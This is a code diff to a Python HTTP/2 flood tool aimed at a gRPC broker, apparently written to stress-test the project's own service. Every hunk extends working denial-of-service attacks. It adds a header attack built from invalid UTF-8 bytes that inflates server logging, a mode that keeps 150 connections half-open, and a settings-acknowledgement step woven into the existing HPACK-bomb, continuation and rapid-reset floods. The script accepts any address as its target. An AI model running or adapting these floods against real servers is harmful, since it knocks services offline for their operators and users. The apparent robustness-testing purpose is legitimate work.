@@ -9,12 +9,13 @@ import sys
 import threading
 import time
 from collections.abc import Callable, Iterator
+from functools import partial
 
 import hpack
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
-END_STREAM, END_HEADERS = 1, 4
+ACK, END_HEADERS = 1, 4
 METHOD = "/qbroker.v1.Producer/Publish"
 
 
@@ -55,6 +56,19 @@ def bomb() -> Iterator[bytes]:
         stream += 2
 
 
+def binary() -> Iterator[bytes]:
+    """Requests whose headers are no text, which gRPC would log one by one, and references to a large one."""
+    encoder = hpack.Encoder()
+    # A literal that enters the table: x-bad, and 3,900 bytes of which none is valid UTF-8.
+    literal = b"\x40\x05x-bad\x7f\xbd\x1d" + b"\xff" * 3_900
+    yield frame(HEADERS, END_HEADERS, 1, request(encoder) + literal)
+    small = b"\x00\x05x-bad\x7f\x81\x01" + b"\xff" * 256
+    stream = 3
+    while True:
+        yield frame(HEADERS, END_HEADERS, stream, request(encoder) + small * 16)
+        stream += 2
+
+
 def large() -> Iterator[bytes]:
     """Many large headers that are no reference to anything."""
     encoder = hpack.Encoder()
@@ -88,7 +102,7 @@ def continuation() -> Iterator[bytes]:
     encoder = hpack.Encoder()
     yield frame(HEADERS, 0, 1, request(encoder))
     while True:
-        # A literal that enters no table, with a name of its own.
+        # A literal that enters no table.
         yield frame(CONTINUATION, 0, 1, (b"\x00\x05x-aaa\x7f\x81\x01" + b"c" * 256) * 32)
 
 
@@ -99,16 +113,46 @@ def garbage() -> Iterator[bytes]:
 
 
 ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
-    attack.__name__: attack for attack in (bomb, large, reset, streams, continuation, garbage)
+    attack.__name__: attack
+    for attack in (bomb, binary, large, reset, streams, continuation, garbage)
 }
 
+BEGINNINGS = (
+    b"",
+    PREFACE[:7],
+    PREFACE,
+    PREFACE + b"\x00\x00",
+    PREFACE + frame(SETTINGS, 0, 0),
+)
+"""Connections that say so much and no more; the last one is valid, and never makes a call."""
 
-def attack_with(name: str, address: tuple[str, int], until: float) -> None:
-    """Send what the attack makes over connection after connection."""
+
+def halves(address: tuple[str, int], until: float) -> None:
+    """Keep connections open that never get to a call, 150 at once."""
+    peers: list[socket.socket] = []
+    for number in range(150):
+        try:
+            peer = socket.create_connection(address, 5)
+            peer.sendall(BEGINNINGS[number % len(BEGINNINGS)])
+        except OSError:
+            continue
+        peers.append(peer)
+    time.sleep(max(0.0, until - time.monotonic()))
+    for peer in peers:
+        peer.close()
+
+
+def attack_with(name: str, acknowledges: bool, address: tuple[str, int], until: float) -> None:
+    """Send what the attack makes over connection after connection.
+
+    gRPC applies its bounds on headers and streams once the peer acknowledges its settings.
+    """
     while time.monotonic() < until:
         try:
             with socket.create_connection(address, 5) as peer:
                 peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
+                if acknowledges and peer.recv(65_536):
+                    peer.sendall(frame(SETTINGS, ACK, 0))
                 threading.Thread(target=swallow, args=(peer,), daemon=True).start()
                 for piece in ATTACKS[name]():
                     peer.sendall(piece)
@@ -130,13 +174,13 @@ def swallow(peer: socket.socket) -> None:
 
 
 def main(name: str, address: str, seconds: float) -> None:
-    """Attack over two connections at once."""
+    """Attack over two connections at once, of which one acknowledges the broker's settings."""
     host, _, port = address.rpartition(":")
     until = time.monotonic() + seconds
-    threads = [
-        threading.Thread(target=attack_with, args=(name, (host, int(port)), until))
-        for _ in range(2)
-    ]
+    deeds: list[Callable[[tuple[str, int], float], None]] = [halves] * 2
+    if name != "halves":
+        deeds = [partial(attack_with, name, acknowledges) for acknowledges in (False, True)]
+    threads = [threading.Thread(target=deed, args=((host, int(port)), until)) for deed in deeds]
     for thread in threads:
         thread.start()
     for thread in threads:
